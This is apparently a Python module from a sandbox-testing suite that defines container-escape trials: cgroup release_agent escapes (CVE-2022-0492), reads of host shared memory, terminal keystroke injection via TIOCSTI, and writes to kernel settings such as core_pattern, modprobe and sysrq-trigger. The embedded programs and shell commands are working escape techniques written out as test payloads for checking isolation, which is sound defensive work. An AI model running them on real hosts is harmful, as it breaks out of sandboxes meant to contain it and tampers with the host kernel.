"""Ways through what processes share a kernel by: cgroups, shared memory, terminals, kernel settings."""

from typing import Final

import msgspec

from opensafe.model.sandbox import Terminal
from opensafe.proof.escape.cell import Cell, Output
from opensafe.proof.escape.ground import Ground, Row, attempts, bare, tried
from opensafe.proof.escape.probe import Boundary, Run, Severity
from opensafe.proof.escape.trial import Trial
from opensafe.proof.escape.ways import POLICY, PYTHON

from . import scenes

_CGROUPS: Final = """
CGROUP, USER, MOUNTS = 0x02000000, 0x10000000, 0x20000
def mounted(data, work):
    call("mount", "none", "/mnt", "cgroup", 0, data)
    try:
        return work("/mnt")
    finally:
        call("umount2", "/mnt", 2)
def agent(at):
    return write(at + "/release_agent", AGENT, os.O_WRONLY)
def hierarchies():
    yield "none,name=" + NAME
    if GUEST:
        yield from ("memory", "devices", "rdma", "cpuset", "none,name=systemd", "none,name=own")
"""
_USER_NAMESPACE = Row(
    scene=scenes.hierarchy,
    command="unshare -UrmC sh -c 'mount -t cgroup -o none,name={name} none /mnt && echo {agent} > /mnt/release_agent'",
    program=_CGROUPS
    + """
def apart(data, kinds):
    uid = os.getuid()
    call("unshare", kinds)
    if kinds & USER:
        write("/proc/self/setgroups", "deny", os.O_WRONLY)
        write("/proc/self/uid_map", "0 %d 1" % uid, os.O_WRONLY)
    return mounted(data, agent)
for data in hierarchies():
    attempt("in a user namespace: " + data, apart, data, USER | MOUNTS | CGROUP)
    attempt("in a user namespace alone: " + data, apart, data, USER | MOUNTS)
    attempt("in a mount namespace: " + data, apart, data, MOUNTS)
""",
)
_RELEASE = Row(
    scene=scenes.hierarchy,
    command="mount -t cgroup -o none,name={name} none /mnt; echo {agent} > /sys/fs/cgroup/release_agent",
    program=_CGROUPS
    + """
import time
def released(at):
    agent(at)
    child = at + "/" + NAME
    os.mkdir(child)
    write(child + "/notify_on_release", "1", os.O_WRONLY)
    joining = os.fork()
    if not joining:
        write(child + "/cgroup.procs", str(os.getpid()), os.O_WRONLY)
        os._exit(0)
    os.waitpid(joining, 0)
    for _ in range(100):
        if os.path.exists(RAN):
            break
        time.sleep(0.1)
    os.rmdir(child)
for data in hierarchies():
    attempt("mount " + data, mounted, data, released)
if GUEST:
    attempt("where it is", released, "/sys/fs/cgroup")
    for path in list(walk("/sys")) + ["/sys/fs/cgroup/release_agent", "/sys/fs/cgroup/devices/devices.allow"]:
        if path.endswith("/release_agent"):
            attempt(path, write, path, AGENT, os.O_WRONLY)
        if path.endswith("/devices.allow"):
            attempt(path, write, path, "a *:* rwm", os.O_WRONLY)
""",
)
_IPC = Row(
    scene=scenes.shared,
    command="ipcs -m -s -q; cat {file}; ls /dev/shm /dev/mqueue",
    program="""
def segment(number):
    return ctypes.string_at(call("shmat", number, None, 0), 100)
def by_key(key):
    return segment(call("shmget", key, 0, 0))
def taken(key):
    return call("semop", call("semget", key, 0, 0), struct.pack("<HhH", 0, -1, 0x800), 1)
attempt("segment", by_key, KEY)
attempt("semaphore", taken, KEY)
attempt("file", read, FILE)
if GUEST:
    for number in range(64):
        attempt("segment %d" % number, segment, number)
        attempt("segment %d" % (number << 15), segment, number << 15)
    for path in walk("/dev/shm", "/dev/mqueue", "/run/shm"):
        attempt(path, read, path)
    attempt("table", read, "/proc/sysvipc/shm", 1 << 16)
    attempt("queues", call, "mq_open", "/" + FILE.rpartition("/")[2], 0)
""",
)
_TYPE: Final = """
TIOCSTI, TIOCLINUX, TIOCSCTTY = 0x5412, 0x541C, 0x540E
TEXT = ("\\x1b[c\\x1b[6n\\x1b]0;" + MARK + "\\x07" + MARK + "\\n").encode()
def typed(descriptor):
    for byte in MARK.encode():
        call("ioctl", descriptor, TIOCSTI, bytes([byte]))
def written(descriptor):
    return os.write(descriptor, TEXT)
def pasted(descriptor):
    return call("ioctl", descriptor, TIOCLINUX, b"\\x03")
def named(path, work):
    return work(os.open(path, os.O_RDWR | os.O_NOCTTY | os.O_NONBLOCK))
places = [TERMINAL, "/dev/tty", "/dev/console", "/dev/tty0", "/dev/ptmx", "/proc/self/fd/0", "/proc/1/fd/0"]
for path in places + (["/dev/pts/" + name for name in names("/dev/pts")] if GUEST else []):
    for work in (typed, written, pasted):
        attempt(work.__name__ + " " + path, named, path, work)
for descriptor in (0, 2):
    for work in (typed, written, pasted):
        attempt("%s %d" % (work.__name__, descriptor), work, descriptor)
"""
_TERMINAL = Row(
    scene=scenes.terminal,
    program=_TYPE,
    command="printf '{mark}' > {terminal}; printf '\\033[c{mark}' > /dev/tty; printf '{mark}' >&2",
)
_SETTINGS = Row(
    scene=scenes.settings,
    command="echo {name} > /proc/sys/kernel/core_pattern; echo h > /proc/sysrq-trigger",
    program="""
MORE = "/proc/sys/kernel/core_pattern /proc/sys/kernel/modprobe /proc/sys/fs/binfmt_misc/register"
MORE += " /sys/kernel/uevent_helper /proc/sysrq-trigger /proc/sys/kernel/panic"
MORE += " /proc/sys/vm/overcommit_memory /proc/sys/kernel/randomize_va_space"
def mounted(path):
    call("mount", "proc", "/mnt", "proc", 0, None)
    return write("/mnt/" + path, NAME, os.O_WRONLY)
for path in dict.fromkeys(PLACES + (MORE.split() if GUEST else [])):
    attempt(path, write, path, NAME, os.O_WRONLY)
if GUEST:
    attempt("a proc of its own", mounted, "sys/kernel/core_pattern")
    attempt("sysctl", call, "syscall", 156, None)
""",
)


async def _in_a_terminal(on: Ground) -> Run:
    """As a call that has a terminal: one of the guest's own, of which the host carries bytes."""

    async def way(cell: Cell, text: str) -> Output:
        launch = cell.launch(*PYTHON, text)
        return await cell.run(msgspec.structs.replace(launch, terminal=Terminal(columns=80, rows=24)))

    async with scenes.terminal() as scene, on.cells.cell() as cell:
        return await tried(cell, _TERMINAL, scene, way, opened=(POLICY,), filtered=True)


async def _handed_over(on: Ground) -> Run:
    """The control: the caller's own terminal is the program's standard input."""
    async with scenes.terminal() as scene, on.cells.cell() as cell:
        handed = {0: scene.slave}
        return await tried(cell, _TERMINAL, scene, lambda _, text: cell.raw(*PYTHON, text, descriptors=handed))


_MOUNTS: Final = ("unshare", "--mount")
KERNEL = (
    Trial(
        id="PR-07", boundary=Boundary.PROCESS, severity=Severity.ESCAPE,
        title="a user namespace of its own, in which to mount a cgroup v1 hierarchy and set its agent (CVE-2022-0492)",
        attacks=("T1611",), benchmark=("cgroup_release_agent",),
        breach="the text of a release agent of the host's is another",
        control="bare, configuration form: CAP_SYS_ADMIN, on a hierarchy that was made for it",
        attempts=attempts(_USER_NAMESPACE), weak=bare(_USER_NAMESPACE, *_MOUNTS),
    ),
    Trial(
        id="PR-09", boundary=Boundary.PROCESS, severity=Severity.HOST_LEAK,
        title="shared memory and semaphores of the host's: by key, by number, as files",
        attacks=("T1559",),
        breach="the nonce in the host's segment in the output, or its semaphore taken", control="bare: the host's IPC",
        attempts=attempts(_IPC), weak=bare(_IPC),
    ),
    Trial(
        id="PR-10", boundary=Boundary.PROCESS, severity=Severity.ESCAPE,
        title="type into the caller's terminal (TIOCSTI, TIOCLINUX), and write what it answers to",
        attacks=("T1059.004",),
        breach="the run's mark on a terminal of the host's", control="flag: that terminal is the program's input",
        attempts=(*attempts(_TERMINAL), _in_a_terminal), weak=_handed_over,
    ),
    Trial(
        id="PR-12", boundary=Boundary.PROCESS, severity=Severity.ESCAPE,
        title="a program that the host's kernel runs when a cgroup empties (release_agent), and devices.allow",
        attacks=("T1611",), benchmark=("cgroup_release_agent", "sys_admin"),
        breach="the host's kernel has run the agent", control="bare, configuration form: as of PR-07",
        attempts=attempts(_RELEASE), weak=bare(_RELEASE, *_MOUNTS),
    ),
    Trial(
        id="PR-13", boundary=Boundary.PROCESS, severity=Severity.ESCAPE,
        title="kernel settings that name programs: core_pattern, modprobe, uevent_helper, binfmt_misc, and sysrq",
        attacks=("T1611", "T1562"), benchmark=("k8s_crio_escape",),
        breach="a setting of the host's is another",
        control="bare, configuration form: root, with copies mounted in the place of the host's own",
        attempts=attempts(_SETTINGS), weak=bare(_SETTINGS, *_MOUNTS, "sh", "-c", '{cover}exec "$@"', "sh"),
    ),
)  # fmt: skip
